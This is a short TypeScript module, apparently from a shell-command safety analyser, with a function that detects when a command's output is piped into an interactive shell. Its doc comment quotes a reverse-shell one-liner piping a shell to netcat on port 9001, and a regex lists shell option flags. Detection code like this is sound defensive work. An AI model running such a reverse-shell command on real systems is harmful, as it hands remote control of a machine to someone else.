import type { Command } from '../../shell/command.js';
import { pipedInto, textOf } from '../../shell/command.js';
import { programName } from '../command/program-name.js';

/** `sh -i 2>&1 | nc host 9001`: what goes down the pipe is what a shell prints that is told what to do by somebody else. */
export function isFedByShell(command: Command): boolean {
  return pipedInto(command).some(({ words: [program, ...args], input }) => /^(?:ba|da|fi|k|z)?sh$/.test(programName(textOf(program))) && input.kind !== 'text' && args.every((arg) => WAITS.test(textOf(arg))));
}

/** An option with which a shell still reads its commands from its input. */
const WAITS = /^(?:-[abd-zA-Z]+|--(?:login|noprofile|norc|posix|rcfile))$/;
